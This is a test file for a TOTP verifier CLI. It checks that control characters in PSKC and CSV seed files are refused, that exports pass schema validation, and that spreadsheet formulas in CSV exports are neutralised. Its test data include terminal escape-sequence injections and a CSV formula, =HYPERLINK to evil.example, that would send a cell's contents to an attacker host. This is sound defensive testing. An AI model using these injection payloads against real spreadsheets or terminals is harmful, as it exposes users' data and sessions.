/**
 * Hostile text in seed files (issue 13), through the real CLI and a real SQLite registry:
 * - control characters are refused at import, PSKC and CSV, naming the key or line and the field,
 *   never quoting a secret, and never sending a control character to the terminal;
 * - every PSKC export passes the RFC 6030 schema check of the real pskctool (libpskc), and an empty
 *   export says "nothing to export" (exit 1) instead of writing a document the schema refuses;
 * - CSV cells a spreadsheet would run as formulas are neutralised (OWASP), and export then import
 *   gives back the same text.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import { base32Encode } from '@hwtotp/protocol/host';
import { openVerifier } from '@hwtotp/verifier';
import { SeedFileError, readCsv, readPskc, writePskc } from '@hwtotp/verifier/seedfiles';
import { runMain } from '../helpers/cli.ts';

let dir: string;
beforeAll(() => { dir = mkdtempSync(join(tmpdir(), 'hwtotp-hostile-')); });
afterAll(() => rmSync(dir, { recursive: true, force: true }));
const path = (name: string) => join(dir, name);
const put = (name: string, text: string) => { writeFileSync(path(name), text); return path(name); };

async function hwtotp(...argv: string[]) {
  return runMain({}, argv);
}

function tokenCount(db: string): number {
  if (!existsSync(db)) return 0;
  const c = new Database(db, { readonly: true });
  try { return (c.prepare('SELECT COUNT(*) AS n FROM tokens').get() as { n: number }).n; } finally { c.close(); }
}

const SECRET = new Uint8Array(20).map((_, i) => 0xa0 + i);
const B32 = base32Encode(SECRET);
const B64 = Buffer.from(SECRET).toString('base64');
// eslint-disable-next-line no-control-regex
const ANY_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

/** A one-key plain PSKC document with the given DeviceInfo fields and Key Id. */
function pskc(f: { manufacturer?: string; serial?: string; model?: string; keyId?: string }): string {
  return `<?xml version="1.0" encoding="UTF-8"?>
<KeyContainer Version="1.0" xmlns="urn:ietf:params:xml:ns:keyprov:pskc">
  <KeyPackage>
    <DeviceInfo>
      <Manufacturer>${f.manufacturer ?? 'Acme'}</Manufacturer>
      <SerialNo>${f.serial ?? 'HW0000001'}</SerialNo>
      <Model>${f.model ?? 'Pico'}</Model>
    </DeviceInfo>
    <Key Id="${f.keyId ?? 'HW0000001'}" Algorithm="urn:ietf:params:xml:ns:keyprov:pskc:totp">
      <Data><Secret><PlainValue>${B64}</PlainValue></Secret></Data>
    </Key>
  </KeyPackage>
</KeyContainer>
`;
}

describe('control characters in seed files are refused at import', () => {
  it.each([
    ['raw ESC in Manufacturer', pskc({ manufacturer: 'Ac\u001b[2Jme' }), /^malformed XML at line 5: character U\+001B is not allowed in XML 1\.0/],
    ['&#27; in Model', pskc({ model: 'Pi&#27;co' }), /^malformed XML: character reference &#27; is not a character XML 1\.0 allows$/],
    ['raw BEL in SerialNo', pskc({ serial: 'HW000\u00070001' }), /^malformed XML at line 6: character U\+0007/],
    ['C1 CSI (allowed by XML) in Manufacturer', pskc({ manufacturer: 'Ac\u009b2Jme' }), /^key 1 \(serial HW0000001\): DeviceInfo\/Manufacturer must not contain control characters, but holds U\+009B at position 2$/],
    ['DEL in Model', pskc({ model: 'Pi&#127;co' }), /^key 1 \(serial HW0000001\): DeviceInfo\/Model must not contain control characters, but holds U\+007F at position 2$/],
    ['a tab inside SerialNo', pskc({ serial: 'HW00\t00001' }), /^key 1 \(serial HW00<U\+0009>00001\): DeviceInfo\/SerialNo must not contain control characters, but holds U\+0009 at position 4$/],
    ['a line feed in the Key Id attribute', pskc({ keyId: 'HW00&#10;00001' }), /^key 1 \(serial HW0000001\): Key Id must not contain control characters, but holds U\+000A at position 4$/],
  ])('PSKC: %s', async (_what, doc, message) => {
    const db = path('pskc-refused.db');
    expect(() => readPskc(doc)).toThrow(SeedFileError);
    const r = await hwtotp('import', put('hostile.xml', doc), '--db', db);
    expect(r.code).toBe(1);
    expect(r.err.replace(/^hwtotp import: InvalidSeedFile: /, '')).toMatch(message);
    expect(r.err).not.toMatch(ANY_CONTROL);
    expect(r.err).not.toContain(B64);
    expect(tokenCount(db)).toBe(0);
  });

  const HEAD = 'serial,secret,period,digits,manufacturer,model\n';
  it.each([
    ['ESC in model', HEAD + `HW0000001,${B32},30,6,Acme,Pi\u001b]0;pwned\u0007co\n`, 'line 2, column model: must not contain control characters, but holds U+001B at position 2'],
    ['a tab inside a quoted manufacturer', HEAD + `HW0000001,${B32},30,6,"Ac\tme",Pico\n`, 'line 2, column manufacturer: must not contain control characters, but holds U+0009 at position 2'],
    ['a line feed inside a quoted model', HEAD + `HW0000001,${B32},30,6,Acme,"Pi\nco"\n`, 'line 2, column model: must not contain control characters, but holds U+000A at position 2'],
    ['NEL (C1) in the serial', HEAD + `HW000\u00850001,${B32},30,6,Acme,Pico\n`, 'line 2, column serial: must not contain control characters, but holds U+0085 at position 5'],
    ['ESC in the secret: named, never shown', HEAD + `HW0000001,"${B32.slice(0, 8)}\u001b${B32.slice(8)}",30,6,Acme,Pico\n`, 'line 2, column secret: holds a control character'],
  ])('CSV: %s', async (_what, text, message) => {
    const db = path('csv-refused.db');
    const r = await hwtotp('import', put('hostile.csv', text), '--db', db);
    expect([r.code, r.err]).toEqual([1, 'hwtotp import: InvalidSeedFile: ' + message]);
    expect(r.err).not.toContain(B32.slice(0, 8));
    expect(tokenCount(db)).toBe(0);
  });

  it('a file with no key exits 1, PSKC and CSV alike', async () => {
    const empty = '<?xml version="1.0"?>\n<KeyContainer Version="1.0" xmlns="urn:ietf:params:xml:ns:keyprov:pskc"/>\n';
    for (const [name, text] of [['none.xml', empty], ['none.csv', 'serial,secret\n']]) {
      const r = await hwtotp('import', put(name!, text!), '--db', path('none.db'));
      expect([r.code, r.out, r.err]).toEqual([1, '', 'hwtotp import: InvalidSeedFile: the file holds no key to import; nothing was written']);
    }
    expect(existsSync(path('none.db'))).toBe(false);
  });
});

describe('every PSKC export passes pskctool --validate', () => {
  /** pskctool's verdict: OK, FAIL (schema), or PARSE-ERROR (it exits 1 on XML it cannot parse). */
  const validate = (file: string) => {
    try {
      return execFileSync('pskctool', ['--validate', file], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] }).trim();
    } catch (e) {
      return (e as { status: number }).status === 1 ? 'PARSE-ERROR' : String(e);
    }
  };
  let db: string;
  beforeAll(async () => {
    db = path('export.db');
    const v = await openVerifier({ db, env: {} });
    await v.importTokens([
      { serial: 'HW0000001', secret: SECRET, manufacturer: 'A & B <Co> "quoted" \'apos\'', model: '\u4e2d\u6587 \ud83d\udd11 \u00e9' },
      { serial: '-123456789', secret: SECRET, manufacturer: '=HYPERLINK("http://x")', model: '@SUM(A1)' },
      { serial: 'HW0000003', secret: SECRET, algorithm: 'SHA256', digits: 8, period: 60 },
    ]);
    await v.close();
  });

  it.each([[[] as string[]], [['--psk', '000102030405060708090a0b0c0d0e0f']], [['--password', 'pw', '--iterations', '1000']]])('export %j validates', async (keys) => {
    const file = path('export-' + keys.length + '.xml');
    const r = await hwtotp('export', '--format', 'pskc', ...keys, '--db', db, '--output', file);
    expect(r.code).toBe(0);
    expect(validate(file)).toBe('OK');
  });

  it('pskctool refuses what hwtotp used to write: a control character, and an empty KeyContainer', () => {
    const doc = writePskc([{ serial: 'HW0000001', secret: SECRET, kind: 'totp', algorithm: 'SHA1', digits: 6, period: 30, t0: 0, driftSteps: 0 }]);
    expect(validate(put('ok.xml', doc))).toBe('OK');
    expect(validate(put('esc.xml', doc.replace('HW0000001</pskc:SerialNo>', 'HW\u001b0000001</pskc:SerialNo>')))).toBe('PARSE-ERROR');
    const empty = doc.replace(/\s*<pskc:KeyPackage>[\s\S]*<\/pskc:KeyPackage>/, '');
    expect(empty).not.toContain('KeyPackage');
    expect(validate(put('empty.xml', empty))).toBe('FAIL');
  });

  it('writePskc refuses what would not validate: no key, or text with a control character', () => {
    expect(() => writePskc([])).toThrow(/^nothing to export/);
    const bad = { serial: 'HW0000001', secret: SECRET, kind: 'totp' as const, algorithm: 'SHA1' as const, digits: 6, period: 30, t0: 0, driftSteps: 0 };
    expect(() => writePskc([{ ...bad, model: 'Pi\u001bco' }])).toThrow('key 1 (serial HW0000001): Model must not contain control characters, but holds U+001B at position 2');
    expect(() => writePskc([{ ...bad, issuer: 'x\u0000' }])).toThrow(/Issuer must not contain control characters/);
  });

  it('an empty registry says "nothing to export" and exits 1, writing no file', async () => {
    const empty = path('empty.db');
    await (await openVerifier({ db: empty, env: {} })).close();
    for (const format of ['pskc', 'csv']) {
      const out = path('empty-export.' + format);
      const r = await hwtotp('export', '--format', format, '--db', empty, '--output', out);
      expect([r.code, r.out, r.err]).toEqual([1, '', 'hwtotp export: InvalidSeedFile: nothing to export: the registry holds no token']);
      expect(existsSync(out)).toBe(false);
      const json = await hwtotp('export', '--format', format, '--db', empty, '--json');
      expect([json.code, JSON.parse(json.out).reason]).toEqual([1, 'no-keys']);
    }
  });
});

describe('CSV formulas', () => {
  const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];

  it('no exported cell starts as a formula, and export then import gives back the same text', async () => {
    const src = path('formula.db');
    const names = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A2)', "'=already quoted", "''+two quotes", "it's fine"];
    const v = await openVerifier({ db: src, env: {} });
    await v.importTokens(names.map((n, i) => ({ serial: (i % 2 ? '-' : '+') + 'HW00000' + i, secret: SECRET, manufacturer: n, model: n.slice(0, 3) })));
    await v.close();
    const out = path('formula.csv');
    expect((await hwtotp('export', '--format', 'csv', '--db', src, '--output', out)).code).toBe(0);
    // Read it back with an independent CSV reader (Python's csv module), as a spreadsheet would split it.
    // python3 comes with pskc-utils (python-pskc), which tools/scripts/ensure-system-deps.mjs installs.
    const cells = JSON.parse(execFileSync('python3', ['-c',
      'import csv,json,sys; print(json.dumps(list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))))', out], { encoding: 'utf8' })) as string[][];
    expect(cells).toHaveLength(names.length + 1);
    const formulas = cells.flat().filter((c) => TRIGGERS.some((t) => c.startsWith(t)));
    expect(formulas).toEqual([]);
    expect(cells[1]![0]).toBe("'+HW000000");
    expect(readFileSync(out, 'utf8')).toContain('"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"');

    const back = path('formula-back.db');
    expect((await hwtotp('import', out, '--db', back)).code).toBe(0);
    const a = await openVerifier({ db: src, env: {} });
    const b = await openVerifier({ db: back, env: {} });
    try {
      const view = async (x: typeof a) => (await x.exportTokens()).map((t) => [t.serial, t.manufacturer, t.model, Buffer.from(t.secret).toString('hex')]);
      const original = await view(a);
      expect(original.map((r) => r[1]).sort()).toEqual([...names].sort());
      expect(await view(b)).toEqual(original);
    } finally {
      await a.close();
      await b.close();
    }
  });

  it('readCsv takes off only the quote the writer added', () => {
    const rows = readCsv("serial,secret,manufacturer,model\nHW0000001," + B32 + ",'=x,'plain\n");
    expect([rows[0]!.manufacturer, rows[0]!.model]).toEqual(['=x', "'plain"]);
  });
});
